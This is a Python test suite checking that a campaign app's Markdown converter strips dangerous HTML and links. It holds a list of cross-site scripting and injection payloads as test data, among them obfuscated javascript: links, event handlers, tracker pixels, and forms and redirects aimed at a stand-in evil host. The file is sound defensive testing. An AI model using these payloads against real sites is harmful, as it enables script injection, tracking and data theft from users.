"""Organisers' Markdown never becomes a script, a picture, a tracker or a trap."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.campaigns.markup import to_html, to_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=https://tracker.example/p.gif>",
    "![pixel](https://tracker.example/p.gif)",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](java\nscript:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "[press](vbscript:x)",
    "<a href='javascript:alert(1)' onclick='x()'>press</a>",
    "<javascript:alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action=https://evil.example><input name=email></form>",
    '[x]: https://evil.example "onmouseover=alert(1)"\n[x]',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "&#106;avascript:alert(1)",
    "[press](&#106;avascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "[ftp](ftp://evil.example)",
    "[mail](mailto:a@b.example)",
]
ALLOWED = re.compile(
    r"</?(?:p|h2|h3|strong|em|ul|ol|li|blockquote)>|<br>|<hr>|</a>|"
    r'<a href="https?://[^"<>]*" rel="noopener noreferrer nofollow">|<a rel="noopener noreferrer nofollow">|'
    r'<a href="[^":<>]*" rel="noopener noreferrer nofollow">'
)


def tags_not_allowed(html: str) -> list[str]:
    return re.findall(r"<[^>]*>?", ALLOWED.sub("", html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_as_text(attack: str) -> None:
    html = to_html(attack)
    assert not tags_not_allowed(html)
    assert not re.search(r'(?:href|src)="\s*(?:javascript|data|vbscript|ftp|mailto)', html, re.IGNORECASE)


@given(
    st.lists(st.sampled_from([*ATTACKS, "\n\n", "**", "`", "[", "](", ")", "<", ">", '"', "# ", "- ", "> "])).map(
        "".join
    )
)
def test_no_mixture_of_attacks_gets_through(markdown: str) -> None:
    assert not tags_not_allowed(to_html(markdown))


def test_what_organisers_need_stays() -> None:
    html = to_html(
        "## A life\n\nShe **asked** for *truth*.\n\n- one\n- two\n\n> words\n\n[source](https://example.org/a?b=c)"
    )
    for piece in ("<h2>A life</h2>", "<strong>asked</strong>", "<em>truth</em>", "<li>one</li>", "<blockquote>"):
        assert piece in html
    assert '<a href="https://example.org/a?b=c" rel="noopener noreferrer nofollow">source</a>' in html


def test_a_first_level_heading_loses_its_tag() -> None:
    assert "<h1" not in to_html("# Mine")


def test_text_keeps_words_items_and_addresses() -> None:
    markdown = "# Head\n\nShe *wrote* to [us](https://a.example/x).\nAgain.\n\n- one\n- two\n\n1. first\n\n`code` <b>"
    assert to_text(markdown) == (
        "Head\n\nShe wrote to us (https://a.example/x).\nAgain.\n\n– one\n\n– two\n\n1. first\n\ncode <b>"
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_has_no_address_that_is_not_of_the_web(attack: str) -> None:
    assert " (javascript:" not in to_text(attack).lower()
    assert " (data:" not in to_text(attack).lower()


@given(st.text())
def test_text_is_made_of_anything(markdown: str) -> None:
    assert to_text(markdown) == to_text(markdown + "\n")
